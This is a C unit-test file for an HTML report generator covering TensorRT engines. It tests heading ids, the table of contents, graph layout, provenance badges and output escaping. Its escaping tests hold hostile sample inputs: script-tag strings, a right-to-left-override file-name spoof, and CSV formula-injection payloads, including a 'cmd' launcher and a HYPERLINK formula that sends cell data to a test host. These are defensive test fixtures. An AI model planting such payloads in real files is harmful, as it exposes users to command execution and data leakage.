/* The HTML page as a product: stable heading ids and the table of contents
 * built from them, identifiers that wrap at their separators, and the
 * page shell. (What the page looks like in a browser is measured by
 * tests/e2e/browser.sh.) */
#include "testutil.h"
#include "facts/graph.h"
#include "assemble/html.h"
#include "assemble/report.h"
#include "assemble/template.h"
#include "load/load.h"
#include "util/alloc.h"
#include "util/buf.h"
#include "util/utf8.h"
#include "emit/markdown.h"
#include "render/graph_layout.h"
#include "view/graph_dot.h"

/* ---- heading ids ----------------------------------------------------------- */

static void test_heading_slug(void **st) {
  (void)st;
  char *s;
  assert_string_equal(s = ec_heading_slug("Engine graph"), "engine-graph"), free(s);
  assert_string_equal(s = ec_heading_slug("Appendix: build and inference options"), "appendix-build-and-inference-options"), free(s);
  assert_string_equal(s = ec_heading_slug("{{engine.name}}"), "engine-name"), free(s);
  assert_string_equal(s = ec_heading_slug("  Reformats & PointWise layers!  "), "reformats-pointwise-layers"), free(s);
  assert_string_equal(s = ec_heading_slug("\xC3\xA9t\xC3\xA9 <script>"), "t-script"), free(s);
  assert_string_equal(s = ec_heading_slug("***"), "section"), free(s);
  assert_string_equal(s = ec_heading_slug(""), "section"), free(s);
}

static char *S_value(void *ud, const char *name) {
  (void)ud;
  if (!strcmp(name, "engine.name")) return ec_strdup("resnet <b>\"x\"</b>");
  return NULL;
}

/* Ids come from the template's text, so they do not change with the
 * engine (before: "e1-s1", "e1-s2"... by position, which moved whenever the
 * template gained a heading, and nothing listed them for a contents). */
static void test_heading_ids(void **st) {
  (void)st;
  const char *md = "# {{engine.name}}\n\ntext\n\n## Lint\n\n### Inputs *and* `outputs`\n\n## Lint\n\n## Engine graph\n";
  ec_tmpl_env env = {NULL, S_value, NULL, NULL, "e2", "t.md"};
  ec_doc doc;
  ec_diags d = {0};
  assert_int_equal(ec_template_expand(md, strlen(md), &env, &doc, &d), 0);
  assert_int_equal(doc.n_heads, 5);
  assert_string_equal(doc.heads[0].id, "e2-s-engine-name");
  assert_int_equal(doc.heads[0].level, 1);
  assert_string_equal(doc.heads[0].text, "resnet <b>\"x\"</b>"); /* the value, as text */
  assert_string_equal(doc.heads[1].id, "e2-s-lint");
  assert_string_equal(doc.heads[2].id, "e2-s-inputs-and-outputs");
  assert_string_equal(doc.heads[2].text, "Inputs and outputs");
  assert_int_equal(doc.heads[2].level, 3);
  assert_string_equal(doc.heads[3].id, "e2-s-lint-2"); /* unique */
  assert_string_equal(doc.heads[4].id, "e2-s-engine-graph");
  char *h = cmark_render_html(doc.root, CMARK_OPT_DEFAULT);
  assert_non_null(strstr(h, "<h2><a class=\"anchor\" id=\"e2-s-lint\"></a>Lint</h2>"));
  assert_non_null(strstr(h, "resnet &lt;b&gt;"));
  free(h);
  ec_doc_free(&doc);
  ec_diags_free(&d);
}

/* ---- identifiers wrap at separators ------------------------------------------ */

static char *S_ident(const char *s) {
  ec_buf b = {0};
  ec_buf_html_ident(&b, s, strlen(s));
  return ec_buf_take(&b);
}

/* Text of HTML without its tags and with &lt; &gt; &amp; decoded. */
static char *S_text(const char *h) {
  ec_buf b = {0};
  for (const char *p = h; *p;) {
    if (*p == '<') {
      const char *gt = strchr(p, '>');
      p = gt ? gt + 1 : p + strlen(p);
    } else if (!strncmp(p, "&lt;", 4)) ec_buf_putc(&b, '<'), p += 4;
    else if (!strncmp(p, "&gt;", 4)) ec_buf_putc(&b, '>'), p += 4;
    else if (!strncmp(p, "&amp;", 5)) ec_buf_putc(&b, '&'), p += 5;
    else if (!strncmp(p, "&quot;", 6)) ec_buf_putc(&b, '"'), p += 6;
    else if (!strncmp(p, "&#39;", 5)) ec_buf_putc(&b, '\''), p += 5;
    else ec_buf_putc(&b, *p++);
  }
  return ec_buf_take(&b);
}

static void test_ident_break_rule(void **st) {
  (void)st;
  assert_true(ec_ident_break('_', 'x'));
  assert_true(ec_ident_break('/', 'c'));
  assert_true(ec_ident_break('.', '0'));
  assert_true(ec_ident_break('+', 'R'));
  assert_true(ec_ident_break('-', 'a'));
  assert_true(ec_ident_break(']', 'x'));
  assert_true(ec_ident_break('x', '['));
  assert_true(ec_ident_break(',', '6'));
  assert_false(ec_ident_break('a', 'b')); /* never mid-word */
  assert_false(ec_ident_break('_', '_')); /* never inside a run of separators */
  /* in context: not after the separators a word starts with */
  static const char opt[] = "(--layerPrecisions=a:fp16 --fp16 /layer1/conv_2 x/--y";
  const size_t on = sizeof opt - 1;
  assert_false(ec_ident_break_at(opt, on, 3));  /* "(--|layerPrecisions" */
  assert_false(ec_ident_break_at(opt, on, 28)); /* "--|fp16" */
  assert_false(ec_ident_break_at(opt, on, 34)); /* "/|layer1" */
  assert_true(ec_ident_break_at(opt, on, 41));  /* "/layer1/|conv_2" */
  assert_true(ec_ident_break_at(opt, on, 46));  /* "conv_|2" */
  assert_true(ec_ident_break_at(opt, on, 52));  /* "x/--|y": the run is inside the word */
  assert_false(ec_ident_break_at(opt, on, 0) || ec_ident_break_at(opt, on, on));
  assert_false(ec_ident_break('/', '['));
  assert_false(ec_ident_break('[', '['));
  assert_false(ec_ident_break(0, 'x'));
}

/* Before: table cells were escaped as one unbreakable word, and a tactic
 * such as sm80_xmma_fprop_implicit_gemm_... pushed Lint's Mitigation column
 * off the page at 1280 px. */
static void test_ident_html(void **st) {
  (void)st;
  char *h, *t;
  h = S_ident("sm80_xmma_fprop_implicit_gemm");
  assert_string_equal(h, "sm80_<wbr>xmma_<wbr>fprop_<wbr>implicit_<wbr>gemm");
  free(h);
  h = S_ident("/features/features.0/Conv + /features/features.1/Relu");
  assert_string_equal(h, "/features/<wbr>features.<wbr>0/<wbr>Conv + /features/<wbr>features.<wbr>1/<wbr>Relu");
  free(h);
  h = S_ident("[32,64,112,112] FP16 NHWC8");
  assert_string_equal(h, "[32,<wbr>64,<wbr>112,<wbr>112] FP16 NHWC8");
  free(h);
  /* short words and prose are left alone: no break in FP32+FP16 or a type */
  h = S_ident("FP32+FP16 Convolution multi-head");
  assert_string_equal(h, "FP32+FP16 Convolution multi-head");
  free(h);
  /* no hyphen is ever added; the text reads back the same */
  const char *hostile = "<script>alert('x')</script>_&amp;_\"q\"/[a]_0123456789abcdef0123456789";
  h = S_ident(hostile);
  assert_null(strstr(h, "<script"));
  assert_null(strstr(h, "\xC2\xAD")); /* soft hyphen */
  t = S_text(h);
  assert_string_equal(t, hostile);
  free(t);
  free(h);
  /* a piece with no separator (a hash) may break anywhere, in its own span */
  h = S_ident("sm80_tactic_0xa3456194c2d84ef313");
  assert_string_equal(h, "<span class=\"nm\">sm80_<wbr>tactic_<wbr>0xa3456194c2d84ef313</span>");
  free(h);
  /* an ONNX op's name is one token: it breaks at its separators only,
   * never inside ("QuantizeLin|ear_7", issue 27) */
  h = S_ident("conv1.weight + QuantizeLinear_7 + GlobalAveragePool_246");
  assert_null(strstr(h, "class=\"nm\""));
  assert_non_null(strstr(h, "QuantizeLinear_<wbr>7"));
  free(h);
  /* control characters and invalid UTF-8 never pass through */
  h = S_ident("layer\x01name_with_a_bad_\xff_byte");
  assert_null(strchr(h, '\x01'));
  assert_null(strchr(h, '\xff'));
  free(h);
}

/* ---- the page shell ------------------------------------------------------------ */

/* Every href in s that starts with "#" names an id present in s. */
static size_t S_broken_links(const char *s, size_t *n_links) {
  size_t broken = 0, n = 0;
  for (const char *p = strstr(s, "href=\"#"); p; p = strstr(p + 1, "href=\"#")) {
    const char *a = p + 7, *e = strchr(a, '"');
    char id[256], pat[300];
    snprintf(id, sizeof id, "%.*s", (int)(e - a), a);
    snprintf(pat, sizeof pat, "id=\"%s\"", id);
    n++;
    if (!strstr(s, pat)) broken++;
  }
  *n_links = n;
  return broken;
}

/* The page has a table of contents listing every engine and its sections,
 * each linking to its heading (before: no navigation at all). */
static void test_toc(void **st) {
  (void)st;
  ec_engine *e[2];
  ec_load_opts lo = {0};
  assert_int_equal(ec_load_engine("examples/resnet-fp16-a100", &lo, &e[0]), 0);
  assert_int_equal(ec_load_engine("examples/resnet-int8-a100", &lo, &e[1]), 0);
  ec_report_opts o = {0};
  o.want_html = 1;
  for (size_t n = 1; n <= 2; n++) {
    ec_report r;
    ec_diags d = {0};
    assert_int_equal(ec_report_build(e, n, &o, &r, &d), 0);
    ec_buf h = {0};
    ec_report_html(&r, &h);
    const char *toc = strstr(h.data, "<nav class=\"toc\" id=\"toc\"");
    assert_non_null(toc);
    const char *end = strstr(toc, "</nav>");
    assert_non_null(end);
    assert_non_null(strstr(h.data, "<main id=\"main\">"));
    char *nav = ec_strndup(toc, (size_t)(end - toc));
    for (size_t i = 0; i < n; i++) {
      const ec_doc *doc = &r.parts[i].doc;
      assert_true(doc->n_heads > 5);
      for (size_t k = 0; k < doc->n_heads; k++) {
        char pat[300];
        snprintf(pat, sizeof pat, "href=\"#%s\"", doc->heads[k].id);
        /* h1 (the engine) and h2 sections are listed, h3 are not */
        if (doc->heads[k].level <= 2) assert_non_null(strstr(nav, pat));
        else assert_null(strstr(nav, pat));
      }
    }
    if (n == 2) {
      assert_non_null(strstr(nav, "href=\"#top\""));
      assert_non_null(strstr(nav, "class=\"toc-part\""));
    }
    size_t links, broken = S_broken_links(h.data, &links);
    assert_true(links > 10);
    assert_int_equal(broken, 0);
    free(nav);
    ec_buf_free(&h);
    ec_report_free(&r);
    ec_diags_free(&d);
  }
  ec_engine_free(e[0]);
  ec_engine_free(e[1]);
}


/* ---- the engine graph ------------------------------------------------------------ */

static ec_engine *S_load(const char *graph) {
  ec_engine *e = ec_engine_new("t");
  ec_load_graph_text(e, "g.json", graph, strlen(graph), NULL);
  ec_load_finish(e, NULL);
  return e;
}

/* A chain of n convolutions (and a Reformat every 7th). */
static char *S_chain(size_t n) {
  ec_buf b = {0};
  ec_buf_puts(&b, "{\"Layers\":[");
  for (size_t i = 0; i < n; i++) {
    ec_buf_printf(&b, "%s{\"Name\":\"/blk%zu/conv%zu/Conv\",\"LayerType\":\"%s\",\"Inputs\":[", i ? "," : "", i / 4, i,
                  i % 7 == 3 ? "Reformat" : "CaskConvolution");
    ec_buf_printf(&b, "{\"Name\":\"%s%zu\",\"Dimensions\":[1,64,56,56],\"Format/Datatype\":\"Row major linear FP16 format\"}]",
                  i ? "t" : "in", i ? i - 1 : 0);
    ec_buf_printf(&b, ",\"Outputs\":[{\"Name\":\"t%zu\",\"Dimensions\":[1,64,56,56],\"Format/Datatype\":\"Row major linear FP16 format\"}]}", i);
  }
  ec_buf_printf(&b, "],\"Bindings\":[\"in0\",\"t%zu\"]}", n - 1);
  return ec_buf_take(&b);
}

static ec_gl *S_layout(const char *dot) {
  ec_gl_job *job = ec_gl_start(&dot, 1, 30);
  ec_gl *gl = NULL;
  char *why = NULL;
  assert_int_equal(ec_gl_finish(job, &gl, &why), 1);
  free(why);
  return gl;
}

/* A long chain opened as a strip 1 node wide and 30 tall (before: 1:1 in
 * a box at the top of the page). Wrapped into columns it is landscape-ish,
 * every edge between columns is a pair of "to/from column" stubs, and
 * Graphviz's drawing keeps its own bounding box. */
static void test_graph_wrap(void **st) {
  (void)st;
  char *j = S_chain(30);
  ec_engine *e = S_load(j);
  free(j);
  ec_graph *g = ec_graph_build(e, NULL);
  ec_dot_opts o = {0};
  o.edge_labels = 1;
  char *plain = ec_dot_graph(g, &o);
  assert_int_equal(ec_dot_columns(g, &o), 1); /* only when asked */
  o.wrap = 1;
  size_t cols = ec_dot_columns(g, &o);
  assert_true(cols >= 2 && cols <= 8);
  char *wrapped = ec_dot_graph(g, &o);
  assert_null(strstr(plain, "to column"));
  assert_non_null(strstr(wrapped, "to column 2 "));
  assert_non_null(strstr(wrapped, "from column 1\""));
  assert_null(strstr(wrapped, "constraint=false"));
  ec_gl *a = S_layout(plain), *b = S_layout(wrapped);
  double ar = ec_gl_height(a) / ec_gl_width(a), br = ec_gl_height(b) / ec_gl_width(b);
  print_message("chain of 30: %.0f x %.0f pt plain, %.0f x %.0f pt in %zu columns\n", ec_gl_width(a), ec_gl_height(a),
                ec_gl_width(b), ec_gl_height(b), cols);
  assert_true(ar > 5);
  assert_true(br < ar / 3);
  assert_true(ec_gl_height(b) < ec_gl_height(a) / 2);
  /* the SVG's view box is the layout's (no loops around the drawing) */
  ec_buf svg = {0};
  assert_int_equal(ec_gl_svg(b, &svg, 0, NULL), 0);
  char vb[128];
  snprintf(vb, sizeof vb, "width=\"%.0fpt\"", ec_gl_width(b));
  assert_non_null(strstr(svg.data, vb));
  ec_buf_free(&svg);
  /* a short or wide graph stays as it is */
  ec_graph_free(g);
  ec_engine_free(e);
  j = S_chain(5);
  e = S_load(j);
  free(j);
  g = ec_graph_build(e, NULL);
  assert_int_equal(ec_dot_columns(g, &o), 1);
  ec_gl_free(a);
  ec_gl_free(b);
  free(plain);
  free(wrapped);
  ec_graph_free(g);
  ec_engine_free(e);
}

/* The legend lists what the graph uses, once, for every output. */
static void test_graph_legend(void **st) {
  (void)st;
  char *j = S_chain(30);
  ec_engine *e = S_load(j);
  free(j);
  ec_graph *g = ec_graph_build(e, NULL);
  ec_dot_legend l;
  ec_dot_legend_make(g, 0, 3, &l);
  int conv = 0, reformat = 0, fp16 = 0, columns = 0, binding = 0;
  for (size_t i = 0; i < l.n; i++) {
    conv += l.v[i].kind == EC_LEG_FILL && !strcmp(l.v[i].label, e->layers[0].type);
    reformat += l.v[i].kind == EC_LEG_FILL && !strcmp(l.v[i].label, "Reformat");
    fp16 += l.v[i].kind == EC_LEG_EDGE && !strcmp(l.v[i].label, "FP16");
    columns += l.v[i].kind == EC_LEG_COLUMNS;
    binding += l.v[i].kind == EC_LEG_BINDING;
    assert_true(l.v[i].kind != EC_LEG_DASHED && l.v[i].kind != EC_LEG_GROUP); /* not used */
  }
  assert_int_equal(conv, 1);
  assert_int_equal(reformat, 1);
  assert_int_equal(fp16, 1);
  assert_int_equal(columns, 1);
  assert_int_equal(binding, 1);
  char *dot = ec_dot_legend_dot(&l, "x_legend");
  assert_non_null(strstr(dot, "legend [shape=plaintext"));
  ec_gl *gl = S_layout(dot);
  assert_true(ec_gl_width(gl) > 50 && ec_gl_height(gl) > 50);
  ec_gl_free(gl);
  free(dot);
  ec_dot_legend_free(&l);
  ec_graph_free(g);
  ec_engine_free(e);
}

/* The report's graph: the legend is outside the drawing (before: a node
 * of the SVG that covered its top), and a names-only engine gets a
 * sentence (before: a 40,000 pt strip of 840 unconnected boxes). */
static void test_graph_block(void **st) {
  (void)st;
  char *j = S_chain(30);
  ec_engine *e = S_load(j);
  free(j);
  ec_report_opts o = {0};
  o.want_html = 1;
  ec_report r;
  ec_diags d = {0};
  assert_int_equal(ec_report_build(&e, 1, &o, &r, &d), 0);
  ec_buf h = {0};
  ec_report_html(&r, &h);
  const char *svg = strstr(h.data, "<div class=\"graph-view\"");
  assert_non_null(svg);
  const char *svg_end = strstr(svg, "</svg>"), *legend = strstr(h.data, "<details class=\"graph-legend\" open>");
  assert_non_null(svg_end);
  assert_non_null(legend);
  assert_true(legend > svg_end);
  char *drawing = ec_strndup(svg, (size_t)(svg_end - svg));
  assert_null(strstr(drawing, "Fill: layer type"));
  assert_non_null(strstr(drawing, "to column 2"));
  free(drawing);
  assert_non_null(strstr(legend, "Fill: layer type"));
  assert_non_null(strstr(h.data, "wrapped into"));
  ec_buf_free(&h);
  ec_report_free(&r);
  ec_engine_free(e);
  /* names only */
  ec_buf b = {0};
  ec_buf_puts(&b, "{\"Layers\":[");
  for (int i = 0; i < 40; i++) ec_buf_printf(&b, "%s\"/m/layer_%d\"", i ? "," : "", i);
  ec_buf_puts(&b, "]}");
  e = S_load(b.data);
  ec_buf_free(&b);
  assert_int_equal(e->n_layers, 40);
  assert_int_equal(ec_report_build(&e, 1, &o, &r, &d), 0);
  ec_report_html(&r, &h);
  assert_null(strstr(h.data, "<div class=\"graph\""));
  assert_non_null(strstr(h.data, "Not available: the layer information names the 40 layers but not the tensors between them"));
  ec_buf_free(&h);
  ec_report_free(&r);
  ec_engine_free(e);
  ec_diags_free(&d);
}

/* ---- generated engines say so ------------------------------------------------------ */

/* The bundled examples are enginegen's: every file format with room for it
 * carries its note, the engine keeps it, and the report shows it (before:
 * nothing in the files or the report told a synthetic engine from a real
 * one). A real engine has none. */
static void test_generated_provenance(void **st) {
  (void)st;
  static const char *const dirs[] = {"examples/resnet-fp16-a100", "examples/vit-log-only-orin"};
  for (size_t i = 0; i < 2; i++) {
    ec_engine *e = ec_test_load(dirs[i]);
    assert_non_null(e->generator);
    assert_non_null(strstr(e->generator, "enginegen"));
    assert_non_null(strstr(e->generator, "not measured"));
    assert_non_null(strstr(e->generator_source, dirs[i]));
    ec_report_opts o = {0};
    o.want_html = 1;
    ec_report r;
    ec_diags d = {0};
    assert_int_equal(ec_report_build(&e, 1, &o, &r, &d), 0);
    ec_buf h = {0};
    ec_report_html(&r, &h);
    assert_non_null(strstr(h.data, "<td>Provenance</td>"));
    assert_non_null(strstr(h.data, "generated, not measured: enginegen"));
    /* and the first screen's identity line says it, before any number, as
     * a badge (issue 27) */
    const char *id = strstr(h.data, "<span class=\"badge\">generated, not measured</span>");
    const char *tiles = strstr(h.data, "class=\"tiles\"");
    assert_non_null(id);
    assert_true(!tiles || id < tiles);
    ec_buf_free(&h);
    ec_report_free(&r);
    ec_diags_free(&d);
    ec_engine_free(e);
  }
  /* the note is the file's text: kept as text, first file wins, cut short */
  ec_engine *e = ec_engine_new("t");
  const char *g = "{\"Layers\":[],\"Generator\":\"<script>x</script> tool\"}";
  ec_load_graph_text(e, "a.graph.json", g, strlen(g), NULL);
  const char *log = "&&&& RUNNING TensorRT.trtexec [TensorRT v100300] [b13] # trtexec\nGenerator: other\n";
  ec_load_log_text(e, "b.log", log, strlen(log), NULL);
  ec_load_finish(e, NULL);
  assert_string_equal(e->generator, "<script>x</script> tool");
  assert_string_equal(e->generator_source, "a.graph.json");
  ec_engine_free(e);
  e = ec_engine_new("t");
  ec_buf b = {0};
  ec_buf_puts(&b, "&&&& RUNNING TensorRT.trtexec [TensorRT v100300] [b13] # trtexec\nGenerator: ");
  for (int k = 0; k < 2000; k++) ec_buf_putc(&b, 'x');
  ec_buf_puts(&b, "\n[03/14/2025-09:26:53] [I] === Performance summary ===\n"
                  "[03/14/2025-09:26:53] [I] Throughput: 100 qps\n");
  ec_load_log_text(e, "c.log", b.data, b.len, NULL);
  ec_load_finish(e, NULL);
  ec_buf_free(&b);
  assert_non_null(e->generator);
  assert_int_equal(strlen(e->generator), 500);
  ec_engine_free(e);
  /* trtexec's own files carry no note */
  const char *sh = ec_test_shared();
  if (sh) {
    e = ec_test_load(ec_test_path(sh, "corpus/trex/pytorch-resnet-A100-fp16"));
    assert_null(e->generator);
    ec_engine_free(e);
  }
}

/* A right-to-left override in a layer name makes the text read in another
 * order than it is stored ("conv\u202Egnp.exe" shows as "convexe.png"): HTML,
 * plain text, Markdown, CSV and DOT show it as U+FFFD, JSON as \u202e
 * (before: passed through). */
static void test_bidi_controls(void **st) {
  (void)st;
  static const char *const names[] = {"conv\xE2\x80\xAEgnp.exe", "a\xE2\x81\xA6" "b\xE2\x81\xA9"};
  for (size_t i = 0; i < 2; i++) {
    const char *s = names[i];
    ec_buf b = {0};
    ec_buf_html(&b, s, strlen(s));
    ec_buf_text(&b, s, strlen(s));
    ec_md_escape(&b, s, strlen(s), 0);
    ec_buf_html_ident(&b, s, strlen(s));
    ec_buf_csv(&b, s, strlen(s));
    ec_buf_dot(&b, s, strlen(s));
    ec_buf_json(&b, s, strlen(s));
    assert_null(strstr(b.data, "\xE2\x80\xAE"));
    assert_null(strstr(b.data, "\xE2\x81\xA6"));
    assert_null(strstr(b.data, "\xE2\x81\xA9"));
    assert_non_null(strstr(b.data, "\xEF\xBF\xBD"));
    ec_buf_free(&b);
  }
  assert_true(ec_utf8_bidi_control(0x202E) && ec_utf8_bidi_control(0x2066) && !ec_utf8_bidi_control(0x200F));
  /* one predicate for every writer: controls but tab and newline, C1, an
   * invalid byte, the bidi controls; not U+FFFD itself when it was written */
  assert_true(ec_utf8_unsafe(0x1b, 1) && ec_utf8_unsafe(0x85, 2) && ec_utf8_unsafe(0xFFFD, 1) && ec_utf8_unsafe(0x2067, 3));
  assert_false(ec_utf8_unsafe('\t', 1) || ec_utf8_unsafe('\n', 1) || ec_utf8_unsafe(0xFFFD, 3) || ec_utf8_unsafe(0x200F, 3));
}

/* Every escaper of shown text cuts it at EC_SHOWN_MAX_BYTES, on a character
 * boundary, with a note of its whole size; CSV (data) keeps it whole. A
 * 150 MB name made a page over 1 GiB and cmark aborted. The page's bound
 * (checked before cmark renders) is at least what cmark renders. */
static void test_shown_cap(void **st) {
  (void)st;
  size_t n = 3 * EC_SHOWN_MAX_BYTES + 1;
  char *s = ec_malloc(n + 1);
  for (size_t i = 0; i + 1 < n; i += 2) memcpy(s + i, "\xC3\xA9", 2); /* é */
  s[n - 1] = '<';
  s[n] = '\0';
  void (*esc[])(ec_buf *, const char *, size_t) = {ec_buf_html, ec_buf_html_ident, ec_buf_json, ec_buf_text, ec_buf_dot};
  char note[64];
  snprintf(note, sizeof note, " \xE2\x80\xA6 [%zu bytes in all]", n);
  for (size_t k = 0; k < sizeof esc / sizeof esc[0]; k++) {
    ec_buf b = {0};
    esc[k](&b, s, n);
    assert_true(b.len < 2 * EC_SHOWN_MAX_BYTES);
    assert_true(ec_utf8_valid(b.data, b.len));
    assert_non_null(strstr(b.data, note));
    /* the '<' at the end is past the cut */
    assert_null(strstr(b.data, "&lt;"));
    assert_null(strstr(b.data, "\\u003c"));
    if (k != 1) assert_null(strchr(b.data, '<')); /* html_ident adds its own tags */
    ec_buf_free(&b);
  }
  ec_buf b = {0};
  ec_md_escape(&b, s, n, 0);
  assert_true(b.len < 2 * EC_SHOWN_MAX_BYTES && strstr(b.data, note));
  b.len = 0;
  ec_buf_csv(&b, s, n);
  assert_int_equal(b.len, n);
  ec_buf_free(&b);
  assert_int_equal(ec_shown_len(s, 100), 100);
  assert_true(ec_shown_len(s, n) <= EC_SHOWN_MAX_BYTES && ec_shown_len(s, n) % 2 == 0);
  free(s);
  /* the bound ec_report_html checks covers what cmark renders */
  ec_engine *e;
  ec_load_opts lo = {0};
  assert_int_equal(ec_load_engine("examples/resnet-fp16-a100", &lo, &e), 0);
  ec_report_opts o = {0};
  o.want_html = 1;
  ec_report r;
  ec_diags d = {0};
  assert_int_equal(ec_report_build(&e, 1, &o, &r, &d), 0);
  ec_buf h = {0};
  assert_int_equal(ec_report_html(&r, &h), 0);
  char *part = cmark_render_html(r.parts[0].doc.root, CMARK_OPT_DEFAULT);
  assert_true(ec_report_html_bound(&r) >= strlen(part));
  assert_true(ec_report_html_bound(&r) < EC_PAGE_MAX_BYTES);
  free(part);
  ec_buf_free(&h);
  ec_report_free(&r);
  ec_diags_free(&d);
  ec_engine_free(e);
}

/* CSV injection (OWASP): a field that starts with = + - @, a tab or a CR is
 * quoted with a leading apostrophe unless it is one plain number as a whole
 * (before: "-1+1+cmd|..." passed because '-' and a digit looked like a
 * number, and a tab or CR first was never guarded). */
static void test_csv_formulas(void **st) {
  (void)st;
  static const char *const cases[][2] = {
      {"-1+1+cmd|' /C calc'!A0", "\"'-1+1+cmd|' /C calc'!A0\""},
      {"=HYPERLINK(\"http://x.test/?\"&A1,\"Click\")", "\"'=HYPERLINK(\"\"http://x.test/?\"\"&A1,\"\"Click\"\")\""},
      {"@SUM(1+1)*cmd|' /C calc'!A0", "\"'@SUM(1+1)*cmd|' /C calc'!A0\""},
      {"\t=1", "\"'\t=1\""},
      {"\r=1", "\"'\xEF\xBF\xBD=1\""}, /* a CR shows as U+FFFD, as everywhere */
      {"+1", "\"'+1\""},
      {"-", "\"'-\""},
      {"-3.5", "-3.5"},
      {"-3", "-3"},
      {"-.5e-3", "-.5e-3"},
      {"-3.5x", "\"'-3.5x\""},
      {"-1e", "\"'-1e\""},
      {"conv1", "conv1"},
      {"a=1", "a=1"},
  };
  for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
    ec_buf b = {0};
    ec_buf_csv(&b, cases[i][0], strlen(cases[i][0]));
    ec_buf_putc(&b, '\0');
    assert_string_equal(b.data, cases[i][1]);
    ec_buf_free(&b);
  }
}

int main(void) {
  const struct CMUnitTest tests[] = {
      cmocka_unit_test(test_csv_formulas), cmocka_unit_test(test_shown_cap),
      cmocka_unit_test(test_heading_slug), cmocka_unit_test(test_heading_ids), cmocka_unit_test(test_ident_break_rule),
      cmocka_unit_test(test_ident_html), cmocka_unit_test(test_toc), cmocka_unit_test(test_graph_wrap),
      cmocka_unit_test(test_graph_legend), cmocka_unit_test(test_graph_block), cmocka_unit_test(test_generated_provenance), cmocka_unit_test(test_bidi_controls),
  };
  return cmocka_run_group_tests(tests, NULL, NULL);
}
